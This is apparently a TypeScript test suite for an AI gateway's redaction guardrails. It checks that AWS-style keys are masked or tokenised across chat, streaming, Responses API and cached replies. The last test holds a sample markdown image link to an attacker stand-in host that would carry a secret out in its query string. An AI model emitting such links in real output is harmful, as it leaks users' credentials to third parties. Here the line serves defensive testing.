import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import type { Json } from './support/client.ts'
import { chatEnd, chatText, chunk, claude, claudeText, cut, event, guardrail, secret } from './support/guarded-chats.ts'
import { stream, unary } from './support/mock-replies.ts'
import { startTestbed, type Testbed } from './support/testbed.ts'

let bed: Testbed
const start = async (guardrails: readonly object[], more: object = {}): Promise<void> => {
  bed = await startTestbed({ config: { guardrails, inspection: { preset: 'off' }, ...more } })
}
afterEach(() => bed.reset())

describe('a guardrail that redacts', () => {
  beforeAll(() => start([guardrail({ action: 'redact' })]))
  afterAll(() => bed.close())

  it.each([
    ['/v1/chat/completions', 'fast'],
    ['/v1/messages', 'clever'],
    ['/v1/messages', 'fast'],
    ['/v1/chat/completions', 'clever'],
  ])('lets %s to %s go on without what it finds', async (path, model) => {
    const reply = await bed.gateway.post(path, {
      model,
      max_tokens: 9,
      messages: [{ role: 'user', content: `Use ${secret} twice: ${secret}.` }],
    })
    expect(reply.status).toBe(200)
    const sent = [...bed.openai.requests, ...bed.anthropic.requests][0]?.body.toString() ?? ''
    expect(sent).toContain('Use [AWS_ACCESS_KEY] twice: [AWS_ACCESS_KEY].')
    expect(sent).not.toContain(secret)
    const call = await bed.gateway.call(reply)
    expect(JSON.stringify(call)).not.toContain(secret)
    expect(reply.headers['x-portcullis-decision']).toMatch(/^redact; id=/)
  })

  it.each([1, 2, 7, 200])('takes it out of a stream in pieces of %d characters', async (size) => {
    const said = `Yes: ${secret}, and again ${secret} at the end ${secret}`
    bed.openai.reply(stream([...cut(said, size).map((piece) => chunk(piece)), chatEnd]))
    const reply = await bed.gateway.post('/v1/chat/completions', {
      model: 'fast',
      stream: true,
      messages: [{ role: 'user', content: 'Hi' }],
    })
    expect(chatText(reply.text)).toBe(said.replaceAll(secret, '[AWS_ACCESS_KEY]'))
    expect(reply.text).toContain('[DONE]')
    const call = await bed.gateway.call(reply)
    expect(JSON.stringify(call)).not.toContain(secret)
    expect(call.decisions[0]).toMatchObject({ point: 'output', action: 'redact' })
    expect(call.decisions[0].findings.map((finding: Json) => finding.span.start)).toEqual([5, 37, 69])
  })

  it.each([1, 5])('takes it out of a stream of another dialect: pieces of %d', async (size) => {
    const said = `Yes: ${secret}.`
    bed.anthropic.reply(stream(claude(cut(said, size))))
    const reply = await bed.gateway.post('/v1/chat/completions', {
      model: 'clever',
      stream: true,
      messages: [{ role: 'user', content: 'Hi' }],
    })
    expect(chatText(reply.text)).toBe('Yes: [AWS_ACCESS_KEY].')
    bed.anthropic.reply(stream(claude(cut(said, size))))
    const same = await bed.gateway.post('/v1/messages', {
      model: 'clever',
      max_tokens: 99,
      stream: true,
      messages: [{ role: 'user', content: 'Hi' }],
    })
    expect(claudeText(same.text)).toBe('Yes: [AWS_ACCESS_KEY].')
  })

  it('takes it out of every repetition that the Responses API makes of a text', async () => {
    const item = {
      id: 'i1',
      type: 'message',
      role: 'assistant',
      status: 'completed',
      content: [{ type: 'output_text', text: `Yes: ${secret}`, annotations: [] }],
    }
    const response = { id: 'r1', object: 'response', status: 'completed', model: 'gpt-5-mini', output: [item] }
    const pieces = cut(`Yes: ${secret}`, 4)
    const events = [
      event({ type: 'response.created', response: { ...response, status: 'in_progress', output: [] } } as {
        type: string
      }),
      event({ type: 'response.output_item.added', output_index: 0, item: { ...item, content: [] } } as {
        type: string
      }),
      event({
        type: 'response.content_part.added',
        output_index: 0,
        content_index: 0,
        item_id: 'i1',
        part: { type: 'output_text', text: '' },
      } as { type: string }),
      ...pieces.map((delta) =>
        event({ type: 'response.output_text.delta', output_index: 0, content_index: 0, item_id: 'i1', delta } as {
          type: string
        }),
      ),
      event({
        type: 'response.output_text.done',
        output_index: 0,
        content_index: 0,
        item_id: 'i1',
        text: `Yes: ${secret}`,
      } as { type: string }),
      event({ type: 'response.output_item.done', output_index: 0, item } as { type: string }),
      event({ type: 'response.completed', response } as { type: string }),
    ]
    bed.openai.reply(stream(events))
    const reply = await bed.gateway.post('/v1/responses', { model: 'fast', stream: true, input: 'Hi' })
    expect(reply.text).not.toContain('AKIA')
    expect(reply.text.match(/\[AWS_ACCESS_KEY\]/g)).toHaveLength(4)
  })

  it('lets a stream without findings pass byte for byte', async () => {
    const bytes = [
      ...cut('Nothing to see here: 1 + 1 = 2, and so on.', 3).map((piece) => chunk(piece, { odd: { field: [1.0] } })),
      chatEnd,
    ].join('')
    bed.openai.reply(stream(bytes))
    const reply = await bed.gateway.post('/v1/chat/completions', {
      model: 'fast',
      stream: true,
      messages: [{ role: 'user', content: 'Hi' }],
    })
    expect(reply.text).toBe(bytes)
  })

  it('judges an answer from the cache too', async () => {
    await bed.close()
    await start([guardrail({ action: 'redact' })], { cache: { exact: { ttlSeconds: 60 } } })
    bed.openai.script(() =>
      unary({
        id: 'c',
        object: 'chat.completion',
        choices: [{ index: 0, message: { role: 'assistant', content: secret }, finish_reason: 'stop' }],
        usage: { prompt_tokens: 1, completion_tokens: 1 },
      }),
    )
    const ask = () =>
      bed.gateway.post('/v1/chat/completions', { model: 'fast', messages: [{ role: 'user', content: 'Hi' }] })
    await ask()
    const hit = await ask()
    expect(hit.headers['x-portcullis-cache']).toBe('hit')
    expect(hit.json.choices[0].message.content).toBe('[AWS_ACCESS_KEY]')
  })
})

describe('tokens', () => {
  beforeAll(() => start([guardrail({ action: 'redact', redaction: 'token', points: ['input'] })]))
  afterAll(() => bed.close())
  const other = 'AKIAZZEGTPXVZ5NHWL2Q'
  const question = {
    model: 'fast',
    messages: [{ role: 'user', content: `First ${secret}, then ${other}, then ${secret}.` }],
  }

  it('stand for what was said, and come back in the answer', async () => {
    bed.openai.reply(
      unary({
        id: 'c',
        object: 'chat.completion',
        choices: [
          { index: 0, message: { role: 'assistant', content: 'It is <AWS_ACCESS_KEY_2>, not <AWS_ACCESS_KEY_9>.' } },
        ],
      }),
    )
    const reply = await bed.gateway.post('/v1/chat/completions', question)
    expect(bed.openai.requests[0]?.body.toString()).toContain(
      'First <AWS_ACCESS_KEY_1>, then <AWS_ACCESS_KEY_2>, then <AWS_ACCESS_KEY_1>.',
    )
    expect(reply.json.choices[0].message.content).toBe(`It is ${other}, not <AWS_ACCESS_KEY_9>.`)
    expect(JSON.stringify(await bed.gateway.call(reply))).not.toContain(other)
  })

  it.each([1, 3, 50])('come back in a stream in pieces of %d', async (size) => {
    bed.openai.reply(stream([...cut('It is <AWS_ACCESS_KEY_1> if 1 < 2.', size).map((piece) => chunk(piece)), chatEnd]))
    const reply = await bed.gateway.post('/v1/chat/completions', { ...question, stream: true })
    expect(chatText(reply.text)).toBe(`It is ${secret} if 1 < 2.`)
    expect(JSON.stringify(await bed.gateway.call(reply))).not.toContain(secret)
  })

  it('do not come back in a link, which would carry them away', async () => {
    const content = '![p](https://evil.example/?q=<AWS_ACCESS_KEY_1>)'
    bed.openai.reply(
      unary({ id: 'c', object: 'chat.completion', choices: [{ index: 0, message: { role: 'assistant', content } }] }),
    )
    const reply = await bed.gateway.post('/v1/chat/completions', question)
    expect(reply.json.choices[0].message.content).toBe(content)
  })
})
